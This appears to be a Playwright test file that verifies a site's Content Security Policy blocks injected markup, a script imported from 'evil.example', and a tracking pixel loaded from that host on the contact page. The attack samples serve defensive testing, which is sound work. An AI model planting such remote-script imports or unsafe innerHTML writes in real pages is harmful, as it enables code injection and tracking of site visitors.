import { expect, test } from '../setup/site-test.ts';

// What an attacker would do with a vulnerability, by the directive that stops it. All directives:
// site/policy.test.ts.
const attacks: Record<string, () => unknown> = {
  'require-trusted-types-for': () => {
    document.body.innerHTML = '<p>Send your gift to 000000</p>';
  },
  'script-src-elem': async () => {
    const address = 'https://evil.example/module.js';
    await import(address).catch(() => undefined);
  },
  'img-src': () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }),
};

test('the browser stops markup, a script and a picture that a page should not have', async ({
  page,
  expectedErrors,
  allowedOutside,
}) => {
  expectedErrors.push(/./);
  // Some are reported as requests, and go no further than that.
  allowedOutside.push(/^https:\/\/evil\.example\//);
  await page.goto('/contact');
  for (const [directive, attack] of Object.entries(attacks)) {
    await test.step(directive, async () => {
      const violated = page.waitForEvent('console', (message) =>
        message.text().startsWith(`violated: ${directive} `),
      );
      await page
        .evaluate(attack)
        .catch((error: Error) => expect(error.message).toMatch(/TypeError/));
      await violated;
    });
  }
});
